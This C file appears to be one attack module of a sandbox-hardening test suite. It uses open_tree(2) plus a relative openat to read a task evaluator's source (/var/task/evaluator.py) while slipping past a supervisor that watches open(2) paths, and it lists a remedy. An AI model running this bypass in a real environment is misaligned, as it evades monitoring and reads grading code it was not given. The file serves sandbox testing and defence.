// SPDX-License-Identifier: MIT
/*
 * Goal:  the evaluator's source, past a supervisor that watches the paths of open(2) and openat(2).
 * Means: open_tree(2), made for mounting, opens any folder for anybody. Relative to its descriptor
 *        the file is called "evaluator.py", a name that says nothing.
 */
#include "attacks/attack.h"

#include <fcntl.h>
#include <linux/mount.h>
#include <sys/syscall.h>
#include <unistd.h>

static enum claim run(const struct brief *b)
{
	char source[65536];
	int folder, fd;
	ssize_t n;

	attempting(b);
	folder = (int)syscall(SYS_open_tree, AT_FDCWD, "/var/task", OPEN_TREE_CLOEXEC);
	if (folder < 0)
		return denied("open_tree");
	fd = openat(folder, "evaluator.py", O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return denied("openat");
	n = read(fd, source, sizeof(source));
	if (n < 0)
		return denied("read");
	loot(source, (size_t)n);
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "the evaluator's source is read although the paths of open(2) are watched",
	.means = "open_tree(2) for the folder, then a relative name that says nothing",
	.oracle = "secret:task",
	.id = "SCF-06",
	.attack_id = "T1106, T1005, CWE-184",
	.remedy = "an allow list of system calls, and Landlock without /var/task",
	.refs = (const char *const[]){ "open_tree(2)", NULL },
	.run = run,
};
